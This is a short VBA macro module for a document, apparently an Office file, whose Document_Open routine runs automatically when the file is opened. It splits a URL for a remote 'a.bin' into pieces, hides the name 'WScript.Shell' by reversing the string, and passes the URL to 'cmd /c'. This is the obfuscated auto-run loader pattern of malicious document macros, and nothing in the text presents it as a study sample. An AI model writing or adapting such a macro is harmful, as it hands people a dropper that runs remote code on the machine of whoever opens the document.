Attribute VB_Name = "ThisDocument"
Private Sub Document_Open()
  u = "htt" & "ps://files.example" & "/a.bin"
  CreateObject(StrReverse("llehS.tpircSW")).Run "cmd /c " & u
End Sub
